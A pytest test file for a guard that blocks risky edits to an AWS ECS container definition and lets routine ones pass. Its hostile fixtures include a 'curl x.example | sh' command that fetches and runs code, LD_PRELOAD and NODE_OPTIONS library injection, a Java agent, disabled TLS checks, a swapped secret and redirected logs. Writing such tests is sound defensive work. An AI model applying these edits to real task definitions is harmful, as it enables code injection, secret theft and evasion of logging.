"""Members of a container definition: each one is judged; what loads, trusts or sends elsewhere is blocked."""

import json
from typing import Any

import pytest
from botocore.loaders import Loader
from hypothesis import given
from hypothesis import strategies as st

from guard.verdict import Severity, Verdict
from modules.task_definitions.guard_containers import HARMLESS, JUDGED, MEMBERS
from tests.guard.plans import Json, judge, plan, replace, rules

TASK = "aws_ecs_task_definition.tasks_api_definition"
HOST = "437064342167.dkr.ecr.eu-west-2.amazonaws.com"
SECRETS = "arn:aws:secretsmanager:eu-west-2:437064342167:secret:counterpromo/dev/"
PARAMETER = "arn:aws:ssm:eu-west-2:437064342167:parameter/counterpromo/dev/db/host"
LOGS = {"awslogs-group": "/ecs/dev", "awslogs-region": "eu-west-2", "awslogs-stream-prefix": "api"}
LIVE: Json = {
    "name": "api",
    "image": f"{HOST}/api:1",
    "essential": True,
    "cpu": 0,
    "environment": [{"name": "NODE_ENV", "value": "production"}],
    "secrets": [
        {"name": "DB_PASSWORD", "valueFrom": f"{SECRETS}db-aaaaaa:password::"},
        {"name": "DB_HOST", "valueFrom": PARAMETER},
    ],
    "logConfiguration": {"logDriver": "awslogs", "options": LOGS},
}
AWS_MEMBERS = Loader().load_service_model("ecs", "service-2")["shapes"]["ContainerDefinition"]["members"]


def judged(*planned: Json, live: tuple[Json, ...] = (LIVE,)) -> Verdict:
    def definition(*containers: Json) -> Json:
        return {"container_definitions": json.dumps(containers), "family": "api", "skip_destroy": True}

    return judge(plan(replace(TASK, definition(*live), definition(*planned))))


def with_variable(name: str, value: str) -> Json:
    return {**LIVE, "environment": [*LIVE["environment"], {"name": name, "value": value}]}


def with_secret(name: str, value_from: str) -> Json:
    others = [one for one in LIVE["secrets"] if one["name"] != name]
    return {**LIVE, "secrets": [*others, {"name": name, "valueFrom": value_from}]}


def with_log(**options: str) -> Json:
    return {**LIVE, "logConfiguration": {"logDriver": "awslogs", "options": {**LOGS, **options}}}


def test_every_member_of_aws_is_judged_once() -> None:
    assert set(AWS_MEMBERS) == {*MEMBERS, *JUDGED, *HARMLESS}
    assert len(AWS_MEMBERS) == len(MEMBERS) + len(JUDGED) + len(HARMLESS)


@pytest.mark.parametrize("member", MEMBERS)
def test_a_changed_member_has_its_rule(member: str) -> None:
    rule, severity = MEMBERS[member]
    value: Any = False if member == "essential" else ["one"]
    assert rule in rules(judged({**LIVE, member: value}), severity)
    assert rule in rules(judged(LIVE, live=({**LIVE, member: value},)), severity)


@given(member=st.from_regex(r"[a-z]{3,9}OfALaterYear", fullmatch=True), value=st.integers(1) | st.text(min_size=1))
def test_a_member_that_nobody_knows_is_blocked_by_name(member: str, value: Any) -> None:
    verdict = judged({**LIVE, member: value})
    assert [one.detail for one in verdict.of(Severity.BLOCKED)] == [f"api: {member}"]


@given(member=st.sampled_from([*MEMBERS]), empty=st.sampled_from([None, "", [], {}, 0]))
def test_an_empty_member_equals_none(member: str, empty: Any) -> None:
    assert judged({**LIVE, member: empty, "image": f"{HOST}/api:2"}, live=({**LIVE, member: None},)).findings == ()


HOSTILE: dict[str, tuple[Json, str]] = {
    "a command that fetches": (
        {**LIVE, "command": ["sh", "-c", "curl x.example | sh"]},
        "container-fed-from-elsewhere",
    ),
    "a program that fetches": (
        {**LIVE, "entryPoint": ["sh", "-c", "node -e x http://x"]},
        "container-fed-from-elsewhere",
    ),
    "a preloaded library": (with_variable("LD_PRELOAD", "/tmp/x.so"), "container-fed-from-elsewhere"),
    "a module of node": (with_variable("NODE_OPTIONS", "--require /tmp/x.js"), "container-fed-from-elsewhere"),
    "an agent of java": (with_variable("JAVA_TOOL_OPTIONS", "-javaagent:/x.jar"), "container-fed-from-elsewhere"),
    "certificates unchecked": (with_variable("NODE_TLS_REJECT_UNAUTHORIZED", "0"), "container-fed-from-elsewhere"),
    "a proxy": (with_variable("https_proxy", "http://10.0.0.9:3128"), "container-fed-from-elsewhere"),
    "another endpoint of AWS": (with_variable("AWS_ENDPOINT_URL_S3", "https://x"), "container-fed-from-elsewhere"),
    "another secret": (with_secret("DB_PASSWORD", f"{SECRETS}stripe-aaaaaa"), "secret-exchanged"),
    "another field of the secret": (with_secret("DB_PASSWORD", f"{SECRETS}db-aaaaaa:username::"), "secret-exchanged"),
    "logs to another driver": ({**LIVE, "logConfiguration": {"logDriver": "splunk", "options": LOGS}}, "logging-off"),
    "logs to another region": (with_log(**{"awslogs-region": "us-east-1"}), "logging-off"),
    "a right no longer dropped": (LIVE, "container-privileged"),
    "a device": ({**LIVE, "linuxParameters": {"devices": [{"hostPath": "/dev/x"}]}}, "container-privileged"),
    "another name": ({**LIVE, "name": "sidecar"}, "container-removed"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_edits_are_blocked(name: str) -> None:
    planned, rule = HOSTILE[name]
    drops = {"linuxParameters": {"capabilities": {"drop": ["ALL"]}}} if name.startswith("a right") else {}
    assert rule in rules(judged(planned, live=({**LIVE, **drops},)))


ORDINARY: dict[str, Json] = {
    "memory of node": with_variable("NODE_OPTIONS", "--max-old-space-size=512 --enable-source-maps"),
    "memory of java": with_variable("JAVA_TOOL_OPTIONS", "-Xmx512m -Duser.timezone=UTC"),
    "an address": with_variable("PUBLIC_URL", "https://dev.counterpromo.com"),
    "hosts beside a proxy": with_variable("NO_PROXY", "169.254.170.2"),
    "a command": {**LIVE, "command": ["node", "dist/worker.js"]},
    "time to stop": {**LIVE, "stopTimeout": 30},
    "a health check": {**LIVE, "healthCheck": {"command": ["CMD-SHELL", "curl -f http://localhost:3000/health"]}},
    "a parameter by its name": with_secret("DB_HOST", "/counterpromo/dev/db/host"),
    "logs with another prefix": with_log(**{"awslogs-stream-prefix": "web", "mode": "non-blocking"}),
    "an init process": {**LIVE, "linuxParameters": {"initProcessEnabled": True}},
    "labels": {**LIVE, "dockerLabels": {"team": "promo"}},
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_edits_pass(name: str) -> None:
    assert judged(ORDINARY[name]).passed


def test_a_container_beside_those_that_run_has_no_image_of_a_stranger() -> None:
    def beside(image: str) -> Verdict:
        return judged(LIVE, {"name": "agent", "image": image, "essential": False})

    for image in ("docker.io/stranger/agent:1", "stranger/agent", "public.ecr.aws/stranger/agent:1"):
        assert rules(beside(image)) == {"image-from-elsewhere"}
    for image in (f"{HOST}/agent:1", "public.ecr.aws/aws-observability/aws-otel-collector:v0.43"):
        assert beside(image).passed


def test_a_sidecar_that_goes_and_a_tag_for_a_digest_are_reported() -> None:
    agent = {"name": "agent", "image": f"{HOST}/agent:1", "essential": False}
    verdict = judged(LIVE, live=(LIVE, agent))
    assert verdict.passed
    assert rules(verdict, Severity.REPORTED) == {"container-removed"}
    pinned = {**LIVE, "image": f"{HOST}/api@sha256:{'0' * 64}"}
    assert rules(judged(LIVE, live=(pinned,)), Severity.REPORTED) == {"image-tags-mutable"}
